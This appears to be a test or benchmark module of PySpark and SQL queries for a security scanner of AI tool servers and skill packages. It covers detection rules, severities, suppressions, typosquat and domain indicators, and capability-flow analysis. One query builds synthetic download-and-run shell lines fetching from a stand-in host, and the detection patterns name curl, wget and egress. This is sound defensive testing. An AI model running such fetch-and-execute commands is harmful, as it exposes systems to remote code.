    return read(spark, d, "lock_entries", "entry_name", "kind").filter("kind = 'package'").select("entry_name", X.pypi_name(F.col("entry_name")).alias("name")).distinct()


@query("t39_tool_hashes")
def tool_hashes(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "tool_id", "tool_name", "description", "input_schema", "output_schema")
    packed = t.select("tool_id", F.to_json(F.struct("tool_name", "description", "input_schema", "output_schema")).alias("t"))

    def go(x: str) -> list[tuple]:
        import json

        v = json.loads(x)
        tool = {"name": v.get("tool_name"), "description": v.get("description"), "input_schema": _schema(v.get("input_schema")), "output_schema": _schema(v.get("output_schema"))}
        return [(U.tool_hash(tool, 1), U.tool_hash(tool, 2))]

    return U.explode_with(packed, "t", go, "v1 string, v2 string")


@query("t41_escapes", """
select tool_id, regexp_replace(regexp_replace(tool_name, '([\\\\`*_{}\\[\\]<>|#])', '\\\\\\1', 'g'), '\\r?\\n', ' ', 'g') as md, replace(replace(replace(replace(replace(annotations, '&', '&amp;'), '<', '&lt;'), '>', '&gt;'), '"', '&quot;'), '''', '&#x27;') as html from tools""")
def escapes(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "tools", "tool_id", "tool_name", "annotations").select("tool_id", X.md_escape(F.col("tool_name")).alias("md"), X.html_escape(F.col("annotations")).alias("html"))


_GLOBS = [("tests", "tests/*"), ("python", "*.py"), ("skill", "*/skill.md"), ("one", "src/*/[a-m]*.t?")]


@query("t42_globs", "select g.name as pattern, count(*) as n from file_blobs, (values ('tests', 'tests/*'), ('python', '*.py'), ('skill', '*/skill.md'), ('one', 'src/*/[a-m]*.t?')) g(name, pat) where file_path glob pat group by 1")
def globs(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "file_path")
    hit = F.filter(F.array(*[F.when(F.col("file_path").rlike(X.glob_regex(g)), F.lit(n)) for n, g in _GLOBS]), lambda x: x.isNotNull())
    return b.select(F.explode(hit).alias("pattern")).groupBy("pattern").agg(F.count("*").alias("n"))


@query("t43_comment_lines", """
select blob_id, count(*) as n from (select blob_id, unnest(string_split(decode(data), chr(10))) as line from (select distinct blob_id, data from file_blobs where try(decode(data)) is not null and hex(data) not like 'FFFE%' and hex(data) not like 'FEFF%'))
where regexp_matches(line, '^\\s*(?:#(?:[^!]|$)|//|--\\s|/\\*|\\*(?:[^*]|$)|<!--|;|REM\\s)') group by 1""")
def comment_lines(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "blob_id", "data").distinct()
    t = b.select("blob_id", F.hex(F.substring("data", 1, 2)).alias("h"), F.try_validate_utf8(F.col("data").cast("string")).alias("t")).filter("t is not null and h not in ('FFFE', 'FEFF')")
    return t.select("blob_id", F.explode(F.split("t", "\n")).alias("line")).filter(X.is_comment_line(F.col("line"))).groupBy("blob_id").agg(F.count("*").alias("n"))


@query("t43_comment_lines_all")
def comment_lines_all(spark: SparkSession, d: str) -> DataFrame:
    """Comment lines of all files, whatever their encoding; `t43_comment_lines` is the part that SQL can decode."""
    t = read(spark, d, "file_blobs", "blob_id", "data").distinct().select("blob_id", X.decode_text(F.col("data"))["text"].alias("t"))
    return t.select("blob_id", F.explode(F.split("t", "\n")).alias("line")).filter(X.is_comment_line(F.col("line"))).groupBy("blob_id").agg(F.count("*").alias("n"))


# ---------------------------------------------------------------- rules and findings

#: Rules in patterns that Java, Python and RE2 read alike.
_PATTERNS = [("T-EGRESS-1", r"(?i)\bexternal_egress\b"), ("T-FETCH-1", r"(?i)\b(?:fetch|curl|wget)\b"), ("T-DELETE-1", r"(?i)\bdestructive\b"), ("T-DATA-1", r"(?i)\bprivate_data\b")]
_PACK = [{"id": r, "severity": s, "confidence": c, "match": {"type": "regex", "patterns": [p.removeprefix("(?i)")], "scopes": ["body"], "window": 0, "max_matches": 3, "unless": u}} for (r, p), s, c, u in zip(_PATTERNS, ("critical", "medium", "high", "low"), ("high", "medium", "medium", "high"), ([], [], [r"\bNothing\b"], []), strict=True)]
_HITS_SQL = """
hits as (select l.doc_id, r.rule_id, l.line, l.snippet from (select doc_id, unnest(range(1, len(s) + 1)) as line, unnest(s) as snippet from (select doc_id, string_split(text, chr(10)) as s from documents where text is not null)) l,
 (values ('T-EGRESS-1', '(?i)\\bexternal_egress\\b'), ('T-FETCH-1', '(?i)\\b(?:fetch|curl|wget)\\b'), ('T-DELETE-1', '(?i)\\bdestructive\\b'), ('T-DATA-1', '(?i)\\bprivate_data\\b')) r(rule_id, p) where regexp_matches(l.snippet, r.p))"""


def _hits(spark: SparkSession, d: str) -> DataFrame:
    return rules.native_hits(read(spark, d, "documents", "doc_id", "text"), "doc_id", "text", _PATTERNS)


def _raw(spark: SparkSession, d: str) -> DataFrame:
    """Hits as raw emissions; the scan is the kind of document, the component the source."""
    dim = spark.createDataFrame([("T-EGRESS-1", "critical", "high"), ("T-FETCH-1", "medium", "medium"), ("T-DELETE-1", "high", "medium"), ("T-DATA-1", "low", "high")], "rule_id string, severity string, confidence string")
    h = _hits(spark, d).join(read(spark, d, "documents", "doc_id", "doc_kind", "source", "file_path", "lang"), "doc_id").join(F.broadcast(dim), "rule_id")
    return h.select(
        F.col("doc_kind").alias("scan_id"), F.struct("doc_id", "line", "rule_id").alias("seq"), "rule_id", F.array(F.coalesce("source", F.lit(""))).alias("components"), F.col("file_path").alias("path"), "line", F.substring(X.sha256(F.col("rule_id")), 1, 16).alias("match_key"),
        F.col("rule_id").alias("message"), "severity", "confidence", (F.coalesce(F.col("lang"), F.lit("")) == "de").alias("hidden"), F.when(F.col("doc_id") % 10 == 0, "llm").otherwise("static").alias("source"), F.array(F.coalesce(F.lower("lang"), F.lit("none"))).alias("tags"), F.substring("snippet", 1, 80).alias("snippet"),
    )


@query("r01_k03_rule_hits", f"with {_HITS_SQL} select doc_id, rule_id, line::int as line, snippet from hits qualify row_number() over (partition by doc_id, rule_id order by line) <= 3")
def rule_hits(spark: SparkSession, d: str) -> DataFrame:
    """At most three lines per document and rule: the evaluator's own cap on examples, not on work."""
    from pyspark.sql import Window

    w = Window.partitionBy("doc_id", "rule_id").orderBy("line")
    return _hits(spark, d).withColumn("n", F.row_number().over(w)).filter("n <= 3").drop("n")


@query("r01_rule_pack", f"with {_HITS_SQL} select doc_id, rule_id, line::int as line, snippet as snippet from hits where length(snippet) <= 300 and not (rule_id = 'T-DELETE-1' and regexp_matches(snippet, '\\bNothing\\b')) qualify row_number() over (partition by doc_id, rule_id order by line) <= 3")
def rule_pack(spark: SparkSession, d: str) -> DataFrame:
    """The part of `r01_rule_pack_all` that SQL can repeat: lines over 300 characters are left out, because a hit on them shows only its surroundings."""
    short = F.array_join(F.transform(F.split("text", "\n"), lambda x: F.when(F.length(x) <= 300, x).otherwise("")), "\n")
    return _evaluated(spark, d, short)


@query("r01_rule_pack_all")
def rule_pack_all(spark: SparkSession, d: str) -> DataFrame:
    """A pack of rules with conditions, evaluated over the whole texts with all positions."""
    return _evaluated(spark, d, F.col("text"))


def _evaluated(spark: SparkSession, d: str, unit: Column) -> DataFrame:
    r, p = configs.rule_tables(spark, _PACK)
    t = spread(read(spark, d, "documents", "doc_id", "text").filter("text is not null"))
    units = t.select("doc_id", F.lit("body").alias("scope"), F.lit("document").alias("role"), unit.alias("unit"))
    return rules.evaluate(units, r, p, ["doc_id"]).select("doc_id", "rule_id", "line", "snippet")


@query("a01_a02_findings", f"""with {_HITS_SQL}, raw as (select d.doc_kind as scan_id, h.rule_id, coalesce(d.source, '') as component, d.file_path as path, h.line, h.doc_id, left(sha256(h.rule_id), 16) as match_key from hits h join documents d using (doc_id))
select scan_id, left(sha256(rule_id || '|' || component || '|' || coalesce(path, '') || '|' || match_key), 32) as fingerprint, any_value(rule_id) as rule_id, arg_min(line, (doc_id, line))::int as line, count(*) as n from raw group by 1, 2""")
def merged(spark: SparkSession, d: str) -> DataFrame:
    return FI.finalize(_raw(spark, d)).select("scan_id", "fingerprint", "rule_id", "line", "n")


_FINAL_SQL = f"""{_HITS_SQL}, dim as (select * from (values ('T-EGRESS-1', 5, 'high'), ('T-FETCH-1', 3, 'medium'), ('T-DELETE-1', 4, 'medium'), ('T-DATA-1', 2, 'high')) v(rule_id, r, confidence)),
raw as (select d.doc_kind as scan_id, h.rule_id, coalesce(d.source, '') as component, d.file_path as path, h.line, h.doc_id, left(sha256(h.rule_id), 16) as match_key, confidence, d.doc_id % 10 = 0 as llm, least(5, r + (coalesce(lang, '') = 'de')::int) as r0 from hits h join documents d using (doc_id) join dim using (rule_id)),
settled as (select *, case when rule_id = 'T-DATA-1' then 3 else r0 end as r1 from raw), capped as (select *, case when llm and r1 = 5 then 4 when r1 = 5 and confidence <> 'high' then 4 else r1 end as r2 from settled),
fin as (select scan_id, left(sha256(rule_id || '|' || component || '|' || coalesce(path, '') || '|' || match_key), 32) as fingerprint, any_value(rule_id) as rule_id, any_value(component) as component, any_value(path) as path, max(r2) as r, count(*) as n from capped group by 1, 2)"""


def _final(spark: SparkSession, d: str) -> DataFrame:
    override = spark.createDataFrame([("T-DATA-1", "medium")], "rule_id string, severity string")
    return FI.finalize(FI.settle(_raw(spark, d), override))


@query("a03_p01_severities", f"with {_FINAL_SQL} select scan_id, count(*) filter (r = 5) as critical, count(*) filter (r = 4) as high, count(*) filter (r = 3) as medium, count(*) filter (r = 2) as low, count(*) filter (r = 1) as info, count(*) as total from fin group by 1")
def severities(spark: SparkSession, d: str) -> DataFrame:
    return FI.histogram(_final(spark, d), "scan_id")


@query("a03_summary")
def summaries(spark: SparkSession, d: str) -> DataFrame:
    return FI.summary(FI.histogram(_final(spark, d), "scan_id")).select("scan_id", "summary")


@query("a09_p02_scores", f"""with {_FINAL_SQL}, caps as (select entry_name as component, label from (select entry_name, unnest(capability_labels) as label from lock_entries) group by all),
fac as (select least(10.0, sum(0.5)) as factor from (select distinct label from caps))
select scan_id, fingerprint, case when r = 1 then 0.0 else round(least(10.0, b + (10.0 - b) * (factor / 10.0) * 0.97), 1) end as score from (select *, case r when 5 then 9.3 when 4 then 7.7 when 3 then 5.3 when 2 then 2.1 else 0.0 end::double as b from fin), fac""")
def scores(spark: SparkSession, d: str) -> DataFrame:
    """One component with every label that occurs, at medium confidence."""
    caps = read(spark, d, "lock_entries", "capability_labels").select(F.explode("capability_labels").alias("label")).distinct().select(F.lit("x").alias("scan_id"), F.lit("c").alias("component"), "label", F.lit("medium").alias("confidence"), F.lit(True).alias("observed"))
    factor = FI.capability_factor(caps).select(F.lit(1).alias("k"), "factor")
    f = _final(spark, d).withColumn("k", F.lit(1)).join(F.broadcast(factor), "k")
    return f.select("scan_id", "fingerprint", FI.score(F.col("severity"), F.col("severity"), F.lit(None).cast("double"), F.lit("poc"), F.col("factor")).alias("score"))


@query("fp04_exit_codes", f"with {_FINAL_SQL} select scan_id, case when max(r) >= 4 then 1 else 0 end::int as code from fin group by 1")
def exit_codes(spark: SparkSession, d: str) -> DataFrame:
    return FI.exit_code(_final(spark, d), spark.createDataFrame([], "scan_id string"))


@query("j25_baseline", f"with {_FINAL_SQL} select scan_id, fingerprint from fin where fingerprint not in (select fingerprint from fin where fingerprint < '8')")
def baseline(spark: SparkSession, d: str) -> DataFrame:
    f = _final(spark, d).select("scan_id", "fingerprint")
    return FI.against_baseline(f, f.filter("fingerprint < '8'")).select("scan_id", "fingerprint")


@query("j26_suppression", f"""with {_FINAL_SQL}, s as (select * from (values (1, 'T-FETCH-1', null, 'known fetch calls', date '2026-01-01'), (2, 'T-FETCH-1', null, 'second rule never used', date '2030-01-01'), (3, null, '^.*docs/', 'documentation only', date '2030-01-01'), (4, 'T-DATA-1', null, 'short', date '2030-01-01')) v(ord, rule, rx, reason, expires) where length(reason) >= 10)
select f.scan_id, f.fingerprint, case when h.ord is null then null when h.expires < date '2026-06-01' then 'expired' else 'active' end as suppression, h.reason from fin f left join (select f.scan_id, f.fingerprint, min(ord) as o from fin f join s on (rule is null or rule = f.rule_id) and (rx is null or regexp_matches(coalesce(f.path, ''), rx)) group by 1, 2) m on m.scan_id = f.scan_id and m.fingerprint = f.fingerprint left join s h on h.ord = m.o""")
def suppression(spark: SparkSession, d: str) -> DataFrame:
    far, near = dt.date(2030, 1, 1), dt.date(2026, 1, 1)
    s = spark.createDataFrame([(1, "T-FETCH-1", None, None, "known fetch calls", near), (2, "T-FETCH-1", None, None, "second rule never used", far), (3, None, None, "^.*docs/", "documentation only", far), (4, "T-DATA-1", None, None, "short", far)], "ord int, rule_id string, fingerprint string, path_regex string, reason string, expires date")
    return FI.suppress(_final(spark, d), s, dt.date(2026, 6, 1)).select("scan_id", "fingerprint", "suppression", "reason")


@query("j27_report_difference", f"with {_FINAL_SQL}, a as (select distinct fingerprint from fin where fingerprint < 'c'), b as (select distinct fingerprint from fin where fingerprint > '4') select coalesce(a.fingerprint, b.fingerprint) as fingerprint, case when a.fingerprint is null then 'added' when b.fingerprint is null then 'removed' else 'unchanged' end as state from a full join b on a.fingerprint = b.fingerprint")
def report_difference(spark: SparkSession, d: str) -> DataFrame:
    f = _final(spark, d).select("fingerprint")
    return FI.difference(f.filter("fingerprint < 'c'"), f.filter("fingerprint > '4'"))


@query("j24_changed_only", f"with {_FINAL_SQL}, ch as (select distinct doc_kind as scan_id, file_path as path from documents where doc_id % 7 = 0 and file_path is not null), t as (select distinct d.doc_kind as scan_id, coalesce(d.source, '') as component from documents d join ch on d.doc_kind = ch.scan_id and d.file_path = ch.path) select f.scan_id, f.fingerprint from fin f where exists (select 1 from t where t.scan_id = f.scan_id and t.component = f.component) or exists (select 1 from ch where ch.scan_id = f.scan_id and ch.path = f.path)")
def changed_only(spark: SparkSession, d: str) -> DataFrame:
    docs = read(spark, d, "documents", "doc_id", "doc_kind", "file_path", "source")
    art = docs.select(F.col("doc_kind").alias("scan_id"), F.col("file_path").alias("path"), F.coalesce("source", F.lit("")).alias("component"))
    changed = docs.filter("doc_id % 7 = 0 and file_path is not null").select(F.col("doc_kind").alias("scan_id"), F.col("file_path").alias("path"))
    return FI.changed_only(_final(spark, d), art, changed).select("scan_id", "fingerprint")


@query("k06_listing", f"with {_FINAL_SQL} select rule_id, path, r::int as r from fin order by r desc, rule_id, path nulls first limit 50")
def listing(spark: SparkSession, d: str) -> DataFrame:
    """The top 50 of a report page, in the order of a report."""
    from skein.sinks import LISTED

    return FI.in_order(_final(spark, d)).limit(LISTED).select("rule_id", "path", FI.rank(F.col("severity")).cast("int").alias("r"))


@query("fp06_reports")
def reports_json(spark: SparkSession, d: str) -> DataFrame:
    """One report per scan of stored files; the limits of a scan bound what a report holds."""
    from skein import sinks

    return sinks.to_json(_scan_findings(spark, d))


# ---------------------------------------------------------------- joins


@query("j28_previous_report", """
with r as (select distinct report_id, kind, locator, scanned_at from reports) select a.report_id, b.report_id as prev_report_id from r a asof left join r b on a.kind = b.kind and a.locator = b.locator and a.scanned_at > b.scanned_at""")
def previous_report(spark: SparkSession, d: str) -> DataFrame:
    r = read(spark, d, "reports", "report_id", "kind", "locator", "scanned_at").distinct()
    return relate.as_of(r, r, ["kind", "locator"], "scanned_at", ["report_id"]).select("report_id", "prev_report_id")


@query("j29_j15_orphans", "select distinct l.entry_key from lock_entries l where l.report_id not in (select report_id from reports where scanned_at >= timestamp '2026-05-01')")
def orphans(spark: SparkSession, d: str) -> DataFrame:
    keep = read(spark, d, "reports", "report_id", "scanned_at").filter("scanned_at >= timestamp_ntz '2026-05-01'")
    return read(spark, d, "lock_entries", "report_id", "entry_key").join(keep, "report_id", "left_anti").select("entry_key").distinct()


@query("j08_j10_collisions", "select lower(trim(tool_name)) as name, count(distinct server_name) as owners, count(distinct sha256(input_schema)) as signatures from tools group by 1 having count(distinct server_name) > 1 and count(distinct sha256(input_schema)) > 1")
def collisions(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "tool_name", "server_name", "input_schema").withColumn("sig", X.sha256(F.col("input_schema")))
    return relate.collisions(t, F.col("tool_name"), "server_name", "sig")


@query("j09_near_names", "with n as (select distinct p_name as x from part where length(p_name) >= 4) select a.x as a, b.x as b from n a, n b where a.x < b.x and damerau_levenshtein(a.x, b.x) = 1")
def near_names(spark: SparkSession, d: str) -> DataFrame:
    return relate.near_names(read(spark, d, "part", "p_name"), "p_name")


@query("j10_near_tools", "with n as (select distinct tool_name as x from tools where length(tool_name) >= 5 union select distinct replace(tool_name, '_', '-') from tools where length(tool_name) >= 5) select a.x as a, b.x as b from n a, n b where a.x < b.x and damerau_levenshtein(a.x, b.x) = 1")
def near_tools(spark: SparkSession, d: str) -> DataFrame:
    """Tool names, and the same names with another joint, as a second server may write them."""
    t = read(spark, d, "tools", "tool_name")
    return relate.near_names(t.unionByName(t.select(F.replace("tool_name", F.lit("_"), F.lit("-")).alias("tool_name"))), "tool_name", least=5)


@query("j11_mentions", """
with t as (select distinct server_name as owner, unnest(regexp_split_to_array(lower(description), '[^a-z0-9_]+')) as name from tools where description is not null), n as (select distinct lower(server_name) as o, server_name as other, lower(regexp_extract(server_name, '^[^-]+')) as name from tools)
select distinct t.owner, t.name, n.other from t join n on t.name = n.name where length(t.name) >= 5 and t.owner <> n.other""")
def mentions(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "server_name", "description")
    names = t.select(F.col("server_name").alias("owner"), F.lower(F.regexp_extract("server_name", "^[^-]+", 0)).alias("name")).distinct()
    return relate.mentions(t.filter("description is not null"), F.col("description"), "server_name", names)


@query("j12_lock_drift")
def lock_drift(spark: SparkSession, d: str) -> DataFrame:
    """The last snapshot of each lock file against the one before; of a repeated entry the row counts that p4 takes."""
    from skein.operators.snapshots import consecutive, content_hash64, plain_hash

    pairs = consecutive(read(spark, d, "reports", "report_id", "locator", "lock_path", "scanned_at"))
    last = pairs.join(pairs.select(F.col("prev_report").alias("report_id")), "report_id", "left_anti").filter("prev_report is not null")
    e = read(spark, d, "lock_entries", "report_id", "entry_key", "entry_version", "content_hash", "skill_files", "tools", "capability_labels", "received_at").filter("entry_key is not null")

    def side(report: str) -> DataFrame:
        of = last.select(F.col(report).alias("report_id"), F.col("report_id").alias("pair"))
        latest = F.max_by(F.struct("content_hash", "skill_files", "tools", "capability_labels"), F.struct("received_at", content_hash64()))
        x = e.join(of, "report_id").groupBy("pair", "entry_key").agg(latest.alias("x"))
        fs = F.when(F.col("x.skill_files").isNotNull(), F.transform_values("x.skill_files", lambda k, v: plain_hash(v)))
        tools = F.when(F.col("x.tools").isNotNull(), F.transform_values("x.tools", lambda k, v: plain_hash(v["hash"])))
        return x.select(F.struct("pair", "entry_key").alias("key"), plain_hash(F.col("x.content_hash")).alias("content_hash"), fs.alias("files"), tools.alias("tools"), F.col("x.capability_labels").alias("labels"))

    out = relate.drift_from_lock(side("report_id"), side("prev_report"))
    return out.select(F.col("key.pair").alias("report_id"), F.col("key.entry_key").alias("entry_key"), "state", "files", "tools", "labels")


@query("j13_hash_indicators", "with bad as (select distinct sha256 as hash from file_blobs where blob_id % 97 = 0) select distinct f.report_id, f.file_path, f.sha256 from file_blobs f join bad on bad.hash = f.sha256")
def hash_indicators(spark: SparkSession, d: str) -> DataFrame:
    """Files whose hash is listed; every 97th file stands for the list of a feed."""
    b = read(spark, d, "file_blobs", "blob_id", "report_id", "file_path", "sha256")
    bad = b.filter("blob_id % 97 = 0").select("sha256").distinct()
    return b.join(bad, "sha256", "left_semi").select("report_id", "file_path", "sha256").distinct()


@query("j14_domain_indicators", """
with h as (select distinct server_name, lower(regexp_extract(url, '^https?://([^/:]+)', 1)) as host from server_specs where url is not null), l as (select unnest(['kupufele.example', 'tabopete.example', 'example', 'b.example']) as domain)
select h.server_name, h.host, arg_max(l.domain, length(l.domain)) as domain from h join l on h.host = l.domain or h.host like '%.' || l.domain group by 1, 2""")
def domain_indicators(spark: SparkSession, d: str) -> DataFrame:
    h = read(spark, d, "server_specs", "server_name", "url").filter("url is not null").select("server_name", X.url_host(F.col("url")).alias("host")).distinct()
    listed = spark.createDataFrame([(x,) for x in ("kupufele.example", "tabopete.example", "example", "b.example")], "domain string")
    return relate.suffix_join(h, "host", listed, "domain").select("server_name", "host", "domain")


@query("j19_typosquats", """
with n as (select distinct p_name as name from part), p as (select unnest(['small rings', 'red widgte', 'blue bolt', 'hot gaer', 'smal gizmo']) as popular), c as (select name, popular, damerau_levenshtein(name, popular) as distance from n, p where not list_contains(['small rings', 'red widgte', 'blue bolt', 'hot gaer', 'smal gizmo'], name))
select name, popular, distance::int as distance from (select *, row_number() over (partition by name order by distance, popular) as n from c where distance <= case when length(popular) < 8 then 1 else 2 end) where n = 1""")
def typosquats(spark: SparkSession, d: str) -> DataFrame:
    return relate.typosquats(read(spark, d, "part", "p_name"), "p_name", ["small rings", "red widgte", "blue bolt", "hot gaer", "smal gizmo"])


@query("j07_bounded_paths", """
with e as (select distinct 'n' || n_nationkey as src, 'r' || n_regionkey as dst from nation union select distinct 'r' || n_regionkey, 'n' || n_nationkey from nation union select distinct 's' || s_suppkey, 'n' || s_nationkey from supplier),
p as (select distinct src as start, [src] as path from e where src like 's%'), p1 as (select start, list_append(path, dst) as path from p join e on e.src = path[-1] where not list_contains(path, dst)), p2 as (select start, list_append(path, dst) as path from p1 join e on e.src = path[-1] where not list_contains(path, dst)), p3 as (select start, list_append(path, dst) as path from p2 join e on e.src = path[-1] where not list_contains(path, dst)),
a as (select * from p1 union all select * from p2 union all select * from p3) select start, path[-1] as goal, array_to_string(arg_min(path, (len(path), path)), '>') as path from a where path[-1] in ('n1', 'r2', 'n7') group by 1, 2""")
def bounded_paths(spark: SparkSession, d: str) -> DataFrame:
    n, s = read(spark, d, "nation"), read(spark, d, "supplier")
    name = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
    up = n.select(name("n", "n_nationkey").alias("src"), name("r", "n_regionkey").alias("dst"))
    e = up.unionByName(up.select(F.col("dst").alias("src"), F.col("src").alias("dst"))).unionByName(s.select(name("s", "s_suppkey").alias("src"), name("n", "s_nationkey").alias("dst"))).withColumn("via", F.lit("file"))
    goals = spark.createDataFrame([("n1",), ("r2",), ("n7",)], "node string")
    out = relate.bounded_paths(e, s.select(name("s", "s_suppkey").alias("node")), goals)
    return out.select("start", "goal", F.array_join("path", ">").alias("path"))


@query("j03_staged_runs")
def staged_runs(spark: SparkSession, d: str) -> DataFrame:
    """Downloads followed by a run, from the paths of scripts written as commands."""
    s = _scan(spark, d).filter("language = 'shell'")
    line = F.concat(F.lit("curl -o /tmp/"), F.regexp_extract("path", "[^/]*$", 0), F.lit(" https://x.example/a\nchmod +x /tmp/"), F.regexp_extract("path", "[^/]*$", 0), F.when(F.col("blob_id") % 2 == 0, F.concat(F.lit("\nbash /tmp/"), F.regexp_extract("path", "[^/]*$", 0))).otherwise(""))
    e = U.explode_with(s.select(F.col("scan_id").alias("component"), F.col("path").alias("file"), line.alias("t")), "t", U.shell_events, "line int, event string, path string, source string")
    return relate.staged_runs(e)


@query("g06_j04_j05_file_links")
def file_links(spark: SparkSession, d: str) -> DataFrame:
    s = _scan(spark, d).filter(F.col("language").isin("python", "javascript", "typescript", "shell"))
    return taint.file_links(s.select(F.col("scan_id").alias("component"), "path", "text"))


@query("g09_g10_taint")
def taint_flows(spark: SparkSession, d: str) -> DataFrame:
    s = _scan(spark, d).withColumnRenamed("scan_id", "s").select(F.col("s").alias("scan_id"), F.col("s").alias("component"), "path", "language", "text")
    return taint.component_taint(s)[0]


# ---------------------------------------------------------------- flows and locks

_LABELS = {"private_data": flows.P, "untrusted_input": flows.U, "external_egress": flows.E, "destructive": "destructive", "code_execution": "code_exec", "file_write": "persistence"}


def _caps(spark: SparkSession, d: str) -> DataFrame:
    table = F.create_map(*[F.lit(x) for kv in _LABELS.items() for x in kv])
    e = read(spark, d, "lock_entries", "report_id", "entry_key", "kind", "capability_labels").select(F.col("report_id").cast("string").alias("scan_id"), F.col("entry_key").alias("component"), "kind", F.explode("capability_labels").alias("l")).distinct()
    conf = F.when(F.col("kind") == "mcp_server", "high").otherwise("medium")
    return e.select("scan_id", "component", F.lit(None).cast("string").alias("tool"), table[F.col("l")].alias("label"), conf.alias("confidence"), F.lit(True).alias("observed"), F.lit("*").alias("session"), F.lit("label").alias("reason"))


_CAPS_SQL = """caps as (select distinct report_id::varchar as scan_id, entry_key as component, case l when 'private_data' then 'P' when 'untrusted_input' then 'U' when 'external_egress' then 'E' else l end as label, case kind when 'mcp_server' then 3 else 2 end as conf from (select report_id, entry_key, kind, unnest(capability_labels) as l from lock_entries))"""


@query("g01_k04_best_nodes", f"with {_CAPS_SQL} select scan_id, case label when 'P' then 'reads_private_data' when 'U' then 'ingests_untrusted_content' when 'E' then 'external_egress' when 'code_execution' then 'code_exec' when 'file_write' then 'persistence' else label end as label, arg_max(component, (conf, component)) as component from caps group by 1, 2")
def best_nodes(spark: SparkSession, d: str) -> DataFrame:
    return flows.best_nodes(flows.spread(flows.nodes(_caps(spark, d)))).select("scan_id", "label", "component")


@query("g02_g03_trifecta", f"""with {_CAPS_SQL}, per as (select scan_id, component, max(conf) filter (label = 'P') as p, max(conf) filter (label = 'U') as u, max(conf) filter (label = 'E') as e from caps group by 1, 2),
b as (select scan_id, label, arg_max(component, (conf, component)) as c, max(conf) as conf from caps group by 1, 2), w as (select scan_id, max(c) filter (label = 'U') as u, max(c) filter (label = 'P') as p, max(c) filter (label = 'E') as e, min(conf) filter (label in ('U', 'P', 'E')) as conf from b group by 1)
select scan_id, 'single' as kind, component as hops, least(p, u, e)::int as conf from per where p is not null and u is not null and e is not null
union all select scan_id, 'spread', u || '>' || p || '>' || e, conf::int from w where u is not null and p is not null and e is not null and not (u = p and p = e)""")
def trifecta(spark: SparkSession, d: str) -> DataFrame:
    return flows.trifecta(flows.nodes(_caps(spark, d))).select("scan_id", "kind", F.array_join("hops", ">").alias("hops"), "conf")


@query("g04_g05_flow_pairs")
def flow_pairs(spark: SparkSession, d: str) -> DataFrame:
    out = flows.paths(flows.pairs(flows.nodes(_caps(spark, d))))
    return out.select("scan_id", "kind", F.array_join("hops", ">").alias("hops"), "conf", "narrative")


@query("a04_capabilities", "select report_id::varchar as scan_id, entry_key as component, l as label, max(case kind when 'mcp_server' then 3 else 2 end)::int as conf from (select report_id, entry_key, kind, unnest(capability_labels) as l from lock_entries) group by 1, 2, 3")
def capabilities(spark: SparkSession, d: str) -> DataFrame:
    back = F.create_map(*[F.lit(x) for k, v in _LABELS.items() for x in (v, k)])
    m = flows.merge_capabilities(_caps(spark, d))
    return m.select("scan_id", "component", back[F.col("label")].alias("label"), FI.confidence_rank(F.col("confidence")).alias("conf"))


@query("a08_p12_locks")
def locks(spark: SparkSession, d: str) -> DataFrame:
    e = read(spark, d, "lock_entries", "report_id", "entry_key", "kind", "entry_name", "entry_version", "content_hash", "skill_files", "tools", "capability_labels", "received_at")
    e = e.groupBy(F.col("report_id").cast("string").alias("scan_id"), F.col("entry_key").alias("component")).agg(F.max_by(F.struct("kind", "entry_name", "entry_version", "content_hash", "skill_files", "tools", "capability_labels"), "received_at").alias("x"))
    c = e.select("scan_id", "component", "x.kind", F.col("x.entry_name").alias("name"), F.lit("").alias("root"), F.col("x.entry_version").alias("version"), "x.content_hash")
    f = e.select("scan_id", "component", F.explode("x.skill_files").alias("path", "sha256"))
    t = e.select("scan_id", "component", F.explode("x.tools").alias("tool_name", "v")).select("scan_id", "component", "tool_name", "v.hash")
    g = e.select("scan_id", "component", F.explode("x.capability_labels").alias("label"))
    return lock.lock_text(lock.build_lock(c, f, t, g))


# ---------------------------------------------------------------- measures

_ITEMS_SQL = """items as (select item_id, label <> 'benign' as positive, category, split, expected_severity, expected_rules, contains(text, 'second channel') as c5, contains(text, 'spare key') as c4, contains(text, 'short summary') as c3 from bench_items),
worst as (select *, case when c5 then 5 when c4 then 4 when c3 then 3 end as r from items)"""


def _items(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
    b = read(spark, d, "bench_items")
    items = b.select("item_id", (F.col("label") != "benign").alias("positive"), "category", "split", "expected_severity", "expected_rules")
    hits = F.filter(F.array(*[F.when(F.contains("text", F.lit(x)), F.struct(F.lit(r).alias("rule_id"), F.lit(s).alias("severity"))) for x, r, s in (("second channel", "B-1", "critical"), ("spare key", "B-2", "high"), ("short summary", "B-3", "medium"))]), lambda x: x.isNotNull())
    return items, b.select("item_id", F.explode(hits).alias("h")).select("item_id", "h.*")


@query("a10_a11_confusion", f"""with {_ITEMS_SQL}, v as (select *, coalesce(r >= 4, false) as flagged from worst), g as (select split, category, count(*) filter (positive and flagged) as tp, count(*) filter (not positive and flagged) as fp, count(*) filter (positive and not flagged) as fn, count(*) filter (not positive and not flagged) as tn from v group by grouping sets ((), (split), (category)))
select *, round(tp / nullif(tp + fp, 0), 4) as precision, round(tp / nullif(tp + fn, 0), 4) as recall, round(2 * tp / nullif(2 * tp + fp + fn, 0), 4) as f1, round(fp / nullif(fp + tn, 0), 4) as fpr from g""")
def confusion(spark: SparkSession, d: str) -> DataFrame:
    items, worst = _items(spark, d)
    return metrics.confusion(metrics.verdicts(items, worst, "high"), ["split", "category"])


@query("a12_severity_met", f"""with {_ITEMS_SQL}, m as (select *, coalesce(r >= case expected_severity when 'critical' then 5 when 'high' then 4 when 'medium' then 3 when 'low' then 2 else 1 end, false) as met from worst where expected_severity is not null)
select count(*) as expected, count(*) filter (met) as met, count(*) filter (expected_severity = 'critical') as critical, count(*) filter (expected_severity = 'critical' and met) as critical_met, string_agg(item_id, ',' order by item_id) filter (not met) as below from m""")
def severity_met(spark: SparkSession, d: str) -> DataFrame:
    return metrics.severity_met(*_items(spark, d)).withColumn("below", F.array_join("below", ","))


